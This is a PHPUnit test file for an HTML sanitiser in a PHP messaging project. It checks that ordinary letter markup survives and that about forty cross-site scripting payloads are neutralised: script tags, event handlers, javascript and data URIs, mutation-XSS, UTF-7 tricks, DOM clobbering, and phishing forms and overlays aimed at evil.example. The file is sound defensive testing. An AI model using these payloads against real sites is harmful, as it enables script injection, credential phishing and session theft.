<?php
declare(strict_types=1);

namespace Sanad\Tests\Unit\Messages;

use PHPUnit\Framework\Attributes\DataProvider;
use PHPUnit\Framework\TestCase;
use Sanad\Messages\HtmlCleaner;
use Sanad\Messages\HtmlText;

final class HtmlCleanerTest extends TestCase {

	/** @return \Generator<string, array{string, string}> */
	public static function letters(): \Generator {
		yield 'paragraphs' => array( '<p>Hello<br>you</p>', '<p>Hello<br>you</p>' );
		yield 'direction and language' => array( '<div dir="RTL" lang="ar-SA">مرحبا</div>', '<div dir="rtl" lang="ar-SA">مرحبا</div>' );
		yield 'direction as a style' => array( '<p style="margin:0; direction: rtl">مرحبا</p>', '<p dir="rtl">مرحبا</p>' );
		yield 'lists' => array( '<ol start="3"><li>a</li><li>b</li></ol>', '<ol start="3"><li>a</li><li>b</li></ol>' );
		yield 'table' => array( '<table align="center"><tr><td colspan="2" width="9">x</td></tr></table>', '<table align="center"><tr><td colspan="2">x</td></tr></table>' );
		yield 'link' => array( '<a href="https://example.com/?a=1&amp;b=2" class="x" id="y">x</a>', '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>' );
		yield 'mail and telephone' => array( '<a href="mailto:a@example.com">a</a><a href="tel:+9661">b</a>', '<a href="mailto:a@example.com" rel="noopener noreferrer nofollow" target="_blank">a</a><a href="tel:+9661" rel="noopener noreferrer nofollow" target="_blank">b</a>' );
		yield 'picture' => array( '<img src="https://example.com/a.png" alt="A" width="20" srcset="b 2x">', '<img src="https://example.com/a.png" alt="A" width="20">' );
		yield 'whole document' => array( '<!doctype html><html dir="rtl"><head><title>T</title><meta charset="utf-7"></head><body bgcolor="red"><p>Text</p></body></html>', '<p>Text</p>' );
		yield 'unknown elements give way' => array( '<font color="red">b</font><custom-thing>c</custom-thing>', 'bc' );
		yield 'entities' => array( '&lt;b&gt; &amp; &nbsp;&copy; &unknown; 5 < 6', "&lt;b&gt; &amp; \u{00A0}© &amp;unknown; 5 &lt; 6" );
		yield 'emoji and Arabic' => array( '<p>👍 شكراً</p>', '<p>👍 شكراً</p>' );
		yield 'unclosed' => array( '<p>a<b>b', '<p>a<b>b</b></p>' );
	}

	#[DataProvider( 'letters' )]
	public function test_keeps_what_a_letter_needs( string $html, string $clean ): void {
		self::assertTrue( HtmlCleaner::can_clean( $html ) );
		self::assertSame( $clean, HtmlCleaner::clean( $html ) );
	}

	/** @return \Generator<string, array{string}> */
	public static function attacks(): \Generator {
		yield 'script' => array( 'a<script>alert(1)</script>' );
		yield 'script in script' => array( '<scr<script>ipt>alert(1)</scr</script>ipt>' );
		yield 'handler' => array( '<img src="https://example.com/x" onerror="alert(1)">' );
		yield 'handler with a slash' => array( '<img/src="x"/onerror=alert(1)>' );
		yield 'handler in upper case' => array( '<P ONMOUSEOVER="alert(1)">a</P>' );
		yield 'javascript link' => array( '<a href="javascript:alert(1)">a</a>' );
		yield 'javascript with controls' => array( "<a href=\" \x01java\tscr\nipt:alert(1)\">a</a>" );
		yield 'javascript in entities' => array( '<a href="&#106;avascript&colon;alert(1)">a</a>' );
		yield 'vbscript' => array( '<a href="vbscript:msgbox(1)">a</a>' );
		yield 'data link' => array( '<a href="data:text/html,<script>alert(1)</script>">a</a>' );
		yield 'data picture' => array( '<img src="data:image/svg+xml;base64,PHN2Zz4=">' );
		yield 'relative link' => array( '<a href="/wp-admin/?delete=1">a</a>' );
		yield 'scheme-relative link' => array( '<a href="//evil.example">a</a>' );
		yield 'svg' => array( '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>' );
		yield 'svg mutation' => array( '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' );
		yield 'math mutation' => array( '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">' );
		yield 'noscript mutation' => array( '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' );
		yield 'title mutation' => array( '<p title="</title><script>alert(1)</script>">a</p>' );
		yield 'textarea mutation' => array( '<textarea></textarea><img src=x onerror=alert(1)></textarea>' );
		yield 'template' => array( '<template><img src=x onerror=alert(1)></template>' );
		yield 'comment' => array( '<!--><img src=x onerror=alert(1)>-->' );
		yield 'conditional comment' => array( '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->' );
		yield 'cdata' => array( '<![CDATA[<script>alert(1)</script>]]>' );
		yield 'style expression' => array( '<p style="width:expression(alert(1))">a</p>' );
		yield 'style url' => array( '<p style="background:url(javascript:alert(1))">a</p>' );
		yield 'style element' => array( '<style>@import "https://evil.example/x.css"; p { position: fixed }</style>a' );
		yield 'overlay' => array( '<div style="position:fixed;top:0;left:0;width:100%;height:100%"><a href="https://evil.example">Log in</a></div>' );
		yield 'base' => array( '<base href="https://evil.example/"><a href="x">a</a>' );
		yield 'form' => array( '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>' );
		yield 'meta refresh' => array( '<meta http-equiv="refresh" content="0;url=https://evil.example">a' );
		yield 'iframe' => array( '<iframe srcdoc="<script>alert(1)</script>"></iframe>' );
		yield 'object and embed' => array( '<object data="x"><embed src="x"></object>' );
		yield 'link element' => array( '<link rel="stylesheet" href="https://evil.example">' );
		yield 'clobbering' => array( '<a id="document" name="cookie" class="wp-toolbar">a</a>' );
		yield 'charset' => array( '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-' );
		yield 'attribute breakout' => array( '<p title="&quot;&gt;<script>alert(1)</script>">a</p>' );
		yield 'null byte' => array( "<scr\0ipt>alert(1)</scr\0ipt>" );
		yield 'marquee' => array( '<marquee onstart=alert(1)>' );
		yield 'details' => array( '<details open ontoggle=alert(1)>' );
		yield 'beacon' => array( '<img src="https://track.example/?id=1" width="1" height="1">' );
		yield 'target without noopener' => array( '<a href="https://evil.example" target="_self" rel="opener">a</a>' );
	}

	#[DataProvider( 'attacks' )]
	public function test_nothing_acts_or_loads_by_itself( string $html ): void {
		$clean = HtmlCleaner::clean( $html );
		self::assert_harmless( $clean );
		self::assert_harmless( HtmlCleaner::clean( $clean ) );
	}

	public function test_cleaning_twice_changes_nothing(): void {
		foreach ( array( ...iterator_to_array( self::letters() ), ...iterator_to_array( self::attacks() ) ) as [ $html ] ) {
			$clean = HtmlCleaner::clean( $html );
			self::assertSame( $clean, HtmlCleaner::clean( $clean ) );
		}
	}

	public function test_what_is_too_deep_is_not_parsed(): void {
		$deep  = str_repeat( '<div>', 10_000 ) . 'words' . str_repeat( '</div>', 10_000 );
		$start = microtime( true );
		self::assertFalse( HtmlCleaner::can_clean( $deep ) );
		self::assertSame( 'words', HtmlText::without_tags( $deep ) );
		self::assertLessThan( 2, microtime( true ) - $start );
	}

	public function test_many_unclosed_paragraphs_are_not_deep(): void {
		$html = str_repeat( '<p>line<br>', 5_000 );
		self::assertTrue( HtmlCleaner::can_clean( $html ) );
		self::assertSame( 5_000, substr_count( HtmlCleaner::clean( $html ), '<p>' ) );
	}

	public function test_five_megabytes_of_tables_are_cheap(): void {
		$html   = str_repeat( '<table><tr><td>cell', 260_000 );
		$before = memory_get_usage();
		$start  = microtime( true );
		self::assertFalse( HtmlCleaner::can_clean( $html ) );
		self::assertStringContainsString( 'cell cell', HtmlText::without_tags( $html ) );
		self::assertLessThan( 2, microtime( true ) - $start );
		self::assertLessThan( 32_000_000, memory_get_peak_usage() - $before );
	}

	public function test_tags_are_cut_out_without_their_scripts(): void {
		self::assertSame( 'a b c', HtmlText::without_tags( 'a<script>x < y</script>b<!-- <p> --><STYLE>p{}</STYLE>c<unclosed' ) );
		self::assertSame( '1 < 2 & 3', HtmlText::without_tags( '<p>1 &lt; 2 &amp; 3' ) );
	}

	private static function assert_harmless( string $html ): void {
		$document = new \DOMDocument();
		@$document->loadHTML( "<?xml encoding=\"utf-8\"?><body>{$html}</body>" );
		foreach ( $document->getElementsByTagName( '*' ) as $element ) {
			if ( in_array( $element->nodeName, array( 'html', 'head', 'body' ), true ) ) {
				continue;
			}
			self::assertContains( $element->nodeName, array( 'a', 'b', 'p', 'div', 'span', 'img', 'table', 'tr', 'td', 'tbody', 'br', 'ol', 'ul', 'li' ), $html );
			foreach ( $element->attributes as $attribute ) {
				self::assertContains( $attribute->nodeName, array( 'href', 'rel', 'target', 'src', 'alt', 'width', 'height', 'dir', 'lang', 'title', 'align', 'colspan', 'start' ), $html );
				if ( in_array( $attribute->nodeName, array( 'href', 'src' ), true ) ) {
					self::assertMatchesRegularExpression( '#^(https?|mailto|tel):#', (string) $attribute->nodeValue );
				}
				if ( 'rel' === $attribute->nodeName ) {
					self::assertSame( 'noopener noreferrer nofollow', $attribute->nodeValue );
				}
			}
		}
		// Whatever a browser makes of it, no tag may begin that is not on the list.
		self::assertDoesNotMatchRegularExpression( '#<(?!/?(?:a|b|p|div|span|img|table|tr|td|tbody|br|ol|ul|li)\b)#i', $html );
	}
}
